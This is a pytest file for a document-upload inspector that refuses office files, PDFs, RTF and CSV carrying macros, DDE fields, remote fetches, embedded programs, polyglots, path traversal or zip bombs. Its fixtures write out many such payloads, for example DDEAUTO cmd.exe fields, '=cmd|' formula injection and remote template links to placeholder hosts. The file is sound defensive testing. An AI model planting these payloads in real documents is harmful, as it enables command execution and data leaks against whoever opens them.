"""What runs, fetches or hides in a file is found however it is written, and what is like it every day comes in."""

from __future__ import annotations

from typing import Any

import pytest
from pypdf.actions import JavaScript

from documents.confined.packages import look
from documents.confined.problem import Problem
from documents.sniffing import PROBLEMS, Verdict, inspect
from tests.documents import office_files as files

PNG = b"\x89PNG\r\n\x1a\n" + bytes(20) + b"IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0" + bytes(20) + b"\xff\xd9"
BEGUN, ENDED = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'


def macro_sheet() -> bytes:
    """Excel 4 kept macros in a sheet (MS-XLS 2.4.28, dt)."""
    return files.compound(Workbook=files.biff(files.WORKBOOK[0], (0x85, bytes(5) + b"\x01\x01\0A"), (0x0A, b"")))


def macro_document() -> bytes:
    return files.docx(main="document", **{"word__vbaProject.bin": b"x"})


SPLIT = "<w:p>{}</w:p>".format(
    "".join(
        f"<w:r>{part}</w:r>"
        for part in (
            '<w:fldChar w:fldCharType="begin"/>', "<w:instrText>DD</w:instrText>",
            "<w:instrText>EAUTO c:\\cmd.exe</w:instrText>", '<w:fldChar w:fldCharType="end"/>',
        )
    )
)  # fmt: skip


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (files.encrypted_pdf, "encrypted"),
        (lambda: files.compound("EncryptedPackage"), "kind"),
        (lambda: files.odt("", manifest='<file-entry><encryption-data checksum="x"/></file-entry>'), "encrypted"),
        (macro_document, "macros"),
        (lambda: files.compound(Workbook=files.biff(files.WORKBOOK[0], (0x2F, bytes(54)))), "encrypted"),
        (macro_sheet, "macros"),
        (lambda: files.compound("Padding", WordDocument=b"\xec\xa5" + bytes(9) + b"\x01"), "encrypted"),
        (lambda: files.compound(WordDocument=b"\xec\xa5" + bytes(600) + b"\x13 DDEAUTO c:\\cmd.exe \x14"), "active"),
        (lambda: files.compound("WordDocument")[:1600], "broken"),
        (lambda: files.docx(rels=(("aFChunk", "a.htm", ""),), **{"word__a.htm": "<html>"}), "page_inside"),
        (lambda: files.docx(rels=(("aFChunk", "a.docx", ""),)), "page_inside"),
        (lambda: files.docx(**{"word__embeddings__a.bin": files.zipped({"a.txt": "a"})}), "program"),
        (lambda: JPEG[:4] + b"<html><script>" + JPEG[4:], "two_in_one"),
        (lambda: files.docx(**{"word__embeddings__a.py": "import os"}), "program"),
        (lambda: files.docx(**{"word__embeddings__a.bin": b"#!/bin/sh"}), "program"),
        (lambda: files.docx(**{"word__embeddings__a.bin": macro_sheet()}), "macros"),
        (lambda: files.xlsx([['=WEBSERVICE("http://example.vn/"&A1)']]), "fetches"),
        (lambda: files.xlsx([["=_xlfn.WEBSERVICE(A1)"]]), "fetches"),
        (lambda: files.xlsx([["=cmd|'/c calc'!A0"]]), "active"),
        (lambda: b"{\\rtf1{\\object{\\*\\obj\r\ndata 0105}}}", "active"),
        (lambda: b"{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\cmd.exe}}{\\fldrslt a}}}", "active"),
        (lambda: b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://example.vn/a.png"}}}', "fetches"),
        (lambda: b'{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT "\\\\\\\\may\\\\a.docx"}}}', "fetches"),
        (lambda: b"\xef\xbb\xbf=cmd|'/c calc'!A0", "active"),
        (lambda: "a;=WEBSERVICE(\"http://a\")".encode("utf-16"), "fetches"),
        (lambda: b"ten,so\n\"=cmd|'/c calc'!A0\",1\n", "active"),
        (files.calling_pdf, "active"),
        (lambda: files.calling_pdf(of_page=True), "active"),
        (files.fetching_pdf, "fetches"),
        (lambda: b"@echo off\n" + files.pdf(), "two_in_one"),
        (lambda: b"<script>alert(1)</script>" + files.pdf(), "two_in_one"),
        (lambda: files.pdf() + bytes(30) + files.zipped({"a.txt": "a"}), "two_in_one"),
        (lambda: b"GIF89a;alert(1)//", "two_in_one"),
        (lambda: files.docx(main="macroEnabled"), "kind"),
        (lambda: files.doc("_VBA_PROJECT"), "macros"),
        (lambda: files.odt("", Basic__Standard__Module1="<x/>"), "macros"),
        (lambda: files.written(lambda writer: writer.add_open_action(JavaScript("app.alert(1)"))), "active"),
        (files.launching_pdf, "active"),
        (lambda: files.written(lambda writer: writer.add_attachment("a.exe", b"MZ")), "files_inside"),
        (lambda: b"{\\rtf1{\\object\\objdata 0105}}", "active"),
        (lambda: files.docx('<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>'), "active"),
        (lambda: files.docx(SPLIT), "active"),
        (lambda: files.docx('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\xa\\a.docx&quot;"/></w:p>'), "fetches"),
        (lambda: files.launching_pdf(indirect=True), "active"),
        (lambda: files.docx(**{"word__embeddings__o.bin": "\x01Ole10Native".encode("utf-16-le")}), "program"),
        (lambda: files.docx(**{"word__embeddings__o.exe": b"MZ"}), "program"),
        (lambda: files.docx(rels=(("attachedTemplate", "http://example.vn/t.dotm", "External"),)), "fetches"),
        (lambda: files.docx(rels=(("image", "file://may/anh.png", "External"),)), "fetches"),
        (lambda: files.odt('<draw:image xlink:href="http://example.vn/a.png"/>'), "fetches"),
        (lambda: files.docx()[:-40], "broken"),
        (lambda: files.docx()[:300], "broken"),
        (lambda: files.docx(word__document="<w:document"), "broken"),
        (lambda: files.pdf()[:-200], "broken"),
        (lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF", "broken"),
        (lambda: files.zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), "broken"),
        (files.bomb, "bomb"),
        (lambda: files.docx(**{"..__..__etc__passwd": b"x"}), "paths"),
        (lambda: files.docx(word__document='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "entities"),
        (lambda: files.odt("", **{"styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "entities"),
        (lambda: files.pdf() + files.docx(), "two_in_one"),
        (lambda: files.docx() + b"<script>alert(1)</script>", "two_in_one"),
        (lambda: PNG + files.docx(), "two_in_one"),
        (lambda: b"rem\n" + files.pdf(), "two_in_one"),
    ],
)  # fmt: skip
def test_what_must_not_come_in_is_refused_with_its_own_sentence(make: Any, problem: str) -> None:
    found = inspect(make(), "tai lieu.pdf")
    assert (found.verdict, found.problem) == (Verdict.REFUSED, problem)
    if problem in PROBLEMS:
        assert str(PROBLEMS[problem]) in found.words


FIELDS_THAT_ACT = (
    r'ddeauto c:\\windows\\system32\\cmd.exe "/k calc"',
    r'LINK Excel.Sheet.8 "\\\\may\\chung\\a.xlsx" "" \a \p',
    r'LINK Word.Document.8 "http://example.vn/a.docx" "" \a \p',
    r'import "http://example.vn/a.png"',
    r'INCLUDEPICTURE \d "http://example.vn/a.png"',
    r"INCLUDEPICTURE “http://example.vn/a.png”",
    r'INCLUDETEXT "mhtml:http://example.vn/a.mht"',
    r'INCLUDETEXT "file:///\\may\chung\a.docx"',
    r'RD "\\\\may\\chung\\a.docx"',
    r'DATABASE \c "DSN=x;DBQ=\\\\may\\chung\\a.mdb" \s "SELECT 1"',
)
FIELDS_OF_EVERY_DAY = (
    r'HYPERLINK "https://example.vn/dde/import?link=http://a&id=%7B3F1DDE45%7D" \o "Link: http://a"',
    r'HYPERLINK "\\\\may\\chung\\Quy trình.docx"',
    r'LINK Excel.Sheet.12 "C:\\Users\\an\\Bảng.xlsx" "Sheet1!R1C1:R3C4" \a \f 4 \h  \* MERGEFORMAT',
    r'INCLUDEPICTURE "C:\\Users\\an\\clip_image001.png" \* MERGEFORMATINET',
    r'INCLUDEPICTURE "/var/folders/ab/T/clip_image001.png" \* MERGEFORMATINET',
    r'INCLUDEPICTURE "file:///C:/Users/an/a.png" \d',
    r'INCLUDEPICTURE "cid:image001.png@01D5A0" \* MERGEFORMATINET',
    r"TEMPLATE \* MERGEFORMAT",
    r"MERGEFIELD data",
    r'TOC \o "1-3" \h \z \u',
)


def field_of(words: str, *, rtf: bool) -> bytes:
    if rtf:
        said = words.replace("\\", "\\\\").replace("“", "\\ldblquote ").replace("”", "\\rdblquote ")
        return b"{\\rtf1{\\field{\\*\\fldinst " + said.encode("cp1258", "replace") + b"}{\\fldrslt a}}}"
    said = words.replace("&", "&amp;").replace('"', "&quot;")
    return files.docx(f"<w:p><w:r>{BEGUN}<w:instrText>{said}</w:instrText>{ENDED}</w:r></w:p>")


@pytest.mark.parametrize("rtf", [False, True])
def test_a_field_that_starts_or_fetches_is_refused_however_it_is_written(*, rtf: bool) -> None:
    for words in FIELDS_THAT_ACT:
        assert inspect(field_of(words, rtf=rtf), "a").problem in ("active", "fetches"), words
    nested = files.docx(
        f'<w:p><w:r>{BEGUN}<w:instrText>INCLUDEPICTURE "</w:instrText>{BEGUN}<w:instrText>IF 1 = 1 "http://a/b.png"'
        f'</w:instrText>{ENDED}<w:instrText>"</w:instrText>{ENDED}</w:r></w:p>'
    )
    if rtf:
        nested = b'{\\rtf1{\\field{\\*\\fldinst IF 1 = 1 {\\field{\\*\\fldinst INCLUDEPICTURE "http://a/b.png"}}}}}'
    assert inspect(nested, "a").problem == "fetches"


@pytest.mark.parametrize("rtf", [False, True])
def test_fields_of_every_day_hurt_nobody(*, rtf: bool) -> None:
    for words in FIELDS_OF_EVERY_DAY:
        assert inspect(field_of(words, rtf=rtf), "a").problem == "", words


OBJECT = (
    '<office:document-content xmlns:office="o" xmlns:xlink="x" xmlns:draw="d" xmlns:chart="c">'
    '<chart:chart xlink:href=".."/><draw:image xlink:href="../Pictures/a.png"/>{}</office:document-content>'
)


def sheet_of(formula: str, encoding: str = "utf-8") -> bytes:
    """A workbook with one formula as it is written in XML."""
    begun = '<?xml version="1.0" encoding="{}"?><worksheet><sheetData><row r="1"><c r="A1"><f>{}</f></c></row></sheetData></worksheet>'
    sheet = begun.format(encoding[:6], formula).encode(encoding)
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return files.zipped(
        {
            "[Content_Types].xml": f'<Types><Override PartName="/xl/workbook.xml" ContentType="{kinds}"/></Types>',
            "xl/workbook.xml": "<workbook/>",
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def workbook_of(part: str, kind: str, content: str, **relation: str) -> bytes:
    """A workbook with a part of this kind under a name that tells nothing."""
    of_book = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = f'<Override PartName="/xl/workbook.xml" ContentType="{of_book}"/><Override PartName="/{part}" ContentType="{kind}"/>'
    rels = files.relations(*((kind, target, "") for kind, target in relation.items()))
    return files.zipped(
        {
            "[Content_Types].xml": f'<Types><Default Extension="svg" ContentType="image/svg+xml"/>{types}</Types>',
            "xl/workbook.xml": "<workbook/>",
            "xl/_rels/workbook.xml.rels": rels,
            "xl/media/a.svg": "<!DOCTYPE svg><svg/>",
            part: content,
        }
    )


SHEET_ML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
BOF_5, END = (0x809, b"\0\5\5\0" + bytes(4)), (0x0A, b"")


def of_excel_5(*in_sheet: tuple[int, bytes], sheet: bytes = b"\0\0") -> bytes:
    """A workbook of Excel 5 or 95, whose only sheet has these records."""
    records = (BOF_5, (0x85, bytes(4) + sheet + b"\1A"), END, (0x809, b"\0\5\x10\0" + bytes(4)), *in_sheet, END)
    return files.compound(Book=files.biff(*records))


def reference(said: bytes) -> tuple[int, bytes]:
    return 0x17, bytes([len(said)]) + said


def field_in_utf_16() -> bytes:
    body = f'<?xml version="1.0" encoding="UTF-16"?><w:p xmlns:w="{files.W}">{BEGUN}<w:instrText>DDEAUTO cmd</w:instrText>{ENDED}</w:p>'
    return files.docx(word__document=body.encode("utf-16-le"))


def merging(source: str) -> bytes:
    """A letter that takes its names from this file."""
    rels = files.relations(("mailMergeSource", source, "External"))
    return files.docx(word__settings=files.part("settings", "<w:mailMerge/>"), **{"word/_rels/settings.xml.rels": rels})


def referring(path: str, *, wide: bool = False) -> bytes:
    """An old workbook that refers to this one, or to this program and topic."""
    said = path.encode("utf-16-le" if wide else "latin-1")
    book = b"\1\0" + len(path).to_bytes(2, "little") + bytes([wide]) + said + b"\3\0\0A\3B"
    return files.compound(Workbook=files.biff(*files.WORKBOOK[:-1], (0x1AE, b"\1\0\1\4"), (0x1AE, book), (0x0A, b"")))


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (lambda: files.odt('<text:dde-connection-decl xmlns:o="o" o:dde-application="cmd"/>'), "active"),
        (lambda: files.odt('<draw:floating-frame xlink:href="http://example.vn/a"/>'), "fetches"),
        (lambda: files.odt('<style:background-image xlink:href="//may/a.png"/>'), "fetches"),
        (lambda: files.odt('<draw:fill-image xlink:href="http://example.vn/a.png"/>'), "fetches"),
        (lambda: files.odt("", **{"Object 1__content.xml": OBJECT.format("<office:dde-source/>")}), "active"),
        (lambda: files.odt("", **{"Object 1__styles.xml": OBJECT.format('<draw:image xlink:href="../../a.png"/>')}), "fetches"),
        (lambda: sheet_of('<![CDATA[WEBSERVICE("http://a/")]]>'), "fetches"),
        (lambda: sheet_of("WEB<!-- -->SERVICE(A1)"), "fetches"),
        (lambda: sheet_of("<!-- -->cmd|'/c calc'!A0"), "active"),
        (lambda: sheet_of("cmd|'/c calc'!A0", "utf-16-le"), "active"),
        (field_in_utf_16, "active"),
        (lambda: merging(r"\\may\chung\a.mdb"), "fetches"),
        (lambda: merging(r"file:///\\may\chung\a.mdb"), "fetches"),
        (lambda: files.docx(rels=(("attachedTemplate", r"file:///\\may\chung\a.dotm", "External"),)), "fetches"),
        (lambda: rb"{\rtf1{\*\template http://example.vn/a.dotm}a}", "fetches"),
        (lambda: rb"{\rtf1{\*\template file://may/chung/a.dotm}a}", "fetches"),
        (lambda: rb"{\rtf1{\*\template \\\\may\\chung\\a.dotm}a}", "fetches"),
        (lambda: rb"{\rtf1{\*\template\uc0 \'68\'74\'74\'70://example.vn/a.dotm}a}", "fetches"),
        (lambda: rb"{\rtf1{\*\template \u104?\u116?\u116?\u112?\u58?//example.vn/a.dotm}a}", "fetches"),
        (lambda: referring("cmd\3/c calc"), "active"),
        (lambda: of_excel_5(reference(b"cmd\3/c calc")), "active"),
        (lambda: of_excel_5(sheet=b"\0\1"), "macros"),
        (lambda: files.biff((0x409, b"\0\0\x10\0\0\0"), reference(b"cmd\3/c calc"), END), "active"),
        (lambda: files.biff((0x409, b"\0\0\x40\0\0\0"), END), "macros"),
        (lambda: files.biff((0x409, b"\0\0\x10\0\0\0"))[:-1], "broken"),
        (lambda: workbook_of("xl/externalLinks/a.dat", f"{SHEET_ML}.externalLink+xml", DDE_LINK), "active"),
        (lambda: workbook_of("xl/a.png", f"{SHEET_ML}.worksheet+xml", "<worksheet><f>WEBSERVICE(A1)</f></worksheet>"), "fetches"),
        (lambda: workbook_of("xl/a.dat", "application/vnd.ms-excel.macrosheet+xml", "<a/>"), "macros"),
        (lambda: workbook_of("xl/a.dat", f"{SHEET_ML}.worksheet+xml", "<a/>", xlMacrosheet="a.dat"), "macros"),
        (lambda: workbook_of("xl/a.dat", "application/vnd.ms-office.activeX+xml", "<a/>"), "active"),
        (lambda: workbook_of("xl/a.dat", f"{SHEET_ML}.worksheet+xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "entities"),
        (lambda: referring("cmd\3/c calc", wide=True), "active"),
    ],
)  # fmt: skip
def test_what_acts_or_fetches_is_found_however_it_is_written(make: Any, problem: str) -> None:
    assert inspect(make(), "tai lieu").problem == problem


@pytest.mark.parametrize(
    "make",
    [
        lambda: files.odt('<text:a xlink:href="http://a"><draw:image xlink:href="Pictures/a.png"/></text:a><draw:area-circle xlink:href="http://a"/>'),
        lambda: files.odt("", **{"Object 1__content.xml": OBJECT.format("")}),
        lambda: sheet_of("<![CDATA[SUM(A1:A9)]]>", "utf-16-le"),
        lambda: merging(r"file:///C:\Users\an\T%C3%AAn.xlsx"),
        lambda: merging("Danh%20s%C3%A1ch.xlsx"),
        lambda: rb"{\rtf1{\*\template C:\\Users\\an\\Normal.dotm}a}",
        lambda: rb"{\rtf1{\*\template Normal.dotm}a}",
        lambda: referring("\1\1CKho\3a.xls"),
        lambda: referring("\1\5\x1ahttp://a/b.xls", wide=True),
        lambda: referring("a.xls"),
        lambda: of_excel_5(reference(b"\3Bang luong"), reference(b"\1\1CKho\3a.xls"), (0x204, b"\0\0\x17\0\5\0Luong"), (0x203, bytes(14))),
        lambda: of_excel_5((0x7F, b"\x17\0\x90\x31\x08chance\3x" + bytes(20))),  # a picture
        lambda: files.biff((0x409, b"\0\0\x10\0\0\0"), reference(b"\1a.xls"), END),
        lambda: workbook_of("xl/a.dat", f"{SHEET_ML}.worksheet+xml", "<worksheet><f>SUM(A1:A9)</f></worksheet>"),
    ],
)  # fmt: skip
def test_links_of_every_day_hurt_nobody(make: Any) -> None:
    assert inspect(make(), "tai lieu").problem == ""


def test_too_many_parts_are_a_bomb() -> None:
    assert inspect(files.docx(**{f"word__{place}.bin": b"" for place in range(5_001)}), "a.docx").problem == "bomb"


def test_ordinary_hyperlinks_hurt_nobody() -> None:
    assert inspect(files.docx(rels=(("hyperlink", "https://example.vn", "External"),)), "a.docx").is_content


MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "types",
    [
        f'<Override PartName="/xl/%77orkbook.xml" ContentType="{MACROS}"/>',
        f'<Override PartName="/xl/workbook.xml" ContentType="{MACROS}"/>',
        f'<Default Extension="none" ContentType="{MACROS}"/>',
        '<Override PartName="/xl/v%C4%A9.dat" ContentType="application/vnd.ms-excel.macrosheet+xml; a=b"/>',
        '<Override PartName="xl\\V%c4%a9.dat" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    ],
)
def test_macros_are_found_however_the_list_of_parts_is_written(types: str) -> None:
    main = f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_ML}.sheet.main+xml"/>'
    parts = {
        "[Content_Types].xml": f"<Types>{types}{main}</Types>",
        "xl/workbook.xml": "<workbook/>",
        "xl/vĩ.dat": "<a/>",
    }
    with pytest.raises(Problem, match="macros"):
        look(files.zipped(parts), "xlsx")


def test_dde_is_found_in_a_part_whose_kind_has_parameters() -> None:
    kind = f"{SHEET_ML}.externalLink+xml ;charset=utf-8"
    assert inspect(workbook_of("xl/a.dat", kind, DDE_LINK), "bang.xlsx").problem == "active"
